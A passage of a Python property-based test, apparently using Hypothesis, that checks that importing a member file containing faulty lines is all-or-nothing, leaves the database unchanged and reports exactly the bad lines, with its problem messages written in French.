    named = {error.line for error in report.errors}
    problems = []
    new = added_rows(before, after)
    if nonzero(added_rows(after, before)):
        problems.append("des lignes existantes ont disparu ou changé")
    if mixed.bad_lines:
        if report.ok or report.written:
            problems.append("fichier avec des lignes fausses accepté")
        if after != before:
            problems.append("base modifiée par un import refusé")
        if named != mixed.bad_lines:
            problems.append(
                f"lignes signalées {sorted(named, key=str)} ≠ {sorted(mixed.bad_lines)}"
            )
    else:
        if not report.ok:
            problems.append("fichier bon refusé : " + report_text(report)[:500])
        expected = Counter(unicodedata.normalize("NFC", r["legal_name"]) for r in mixed.rows)
        got = Counter(p.legal_name for p in new["member_private"])
        if report.ok and got != expected:
            problems.append(f"noms enregistrés {sorted(got)} ≠ {sorted(expected)}")
        shown = Counter(r["display_name"] for r in mixed.rows)
        if report.ok and Counter(m.display_name for m in new["members"]) != shown:
            problems.append("noms affichés différents")
    if problems:
        problems.append(f"{mixed.fmt} fautes {mixed.faults} ; rapport :\n{report_text(report)}")
    return MixedOutcome(
        problems,
        report.written,
        named,
        len(new["members"]),
        report.rows_read,
        after != before,
        seconds,
    )


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_mixed_member_files_are_all_or_nothing_and_name_exactly_the_bad_lines(
    demo_db, tmp_path, data
):
    before = snapshot(demo_db)
    # A Hypothesis-controlled Random: uniform choices (every fault kind gets drawn) that
    # Hypothesis still replays and shrinks.
    chooser = Chooser(data.draw(st.randoms(use_true_random=False)))
    mixed = make_mixed_members(chooser, MixContext.from_dataset(before, tmp_path))
    event(f"format {mixed.fmt}")
    for fault in mixed.faults.values() or ["aucune"]:
        event(f"faute {fault}")
    outcome = judge_mixed(demo_db, mixed, before)
    assert not outcome.problems, "\n".join(outcome.problems)
    assert outcome.written == (not mixed.bad_lines)
    assert outcome.new_members == (0 if mixed.bad_lines else len(mixed.rows))
